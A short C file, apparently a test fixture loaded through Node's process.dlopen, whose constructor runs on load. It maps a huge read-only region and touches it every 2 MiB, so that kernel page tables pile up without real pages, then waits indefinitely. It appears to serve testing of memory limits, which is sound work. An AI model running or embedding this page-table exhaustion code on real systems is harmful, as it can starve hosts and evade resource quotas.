/* tables.c - loaded by process.dlopen: page tables without a page, by reading an empty mapping every 2 MiB. */
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"

#define STEP (2ul << 20)

static __attribute__((constructor)) void fill(void)
{
	size_t size = 1ul << 40;
	volatile char *p = MAP_FAILED;

	while (size > STEP && (p = mmap(NULL, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0)) == MAP_FAILED)
		size /= 2;
	for (size_t at = 0; p != MAP_FAILED && at < size; at += STEP)
		(void)p[at];
	printf("%zu tables\n", size / STEP);
	fflush(stdout);
	pause(); /* until it is ended for that */
}
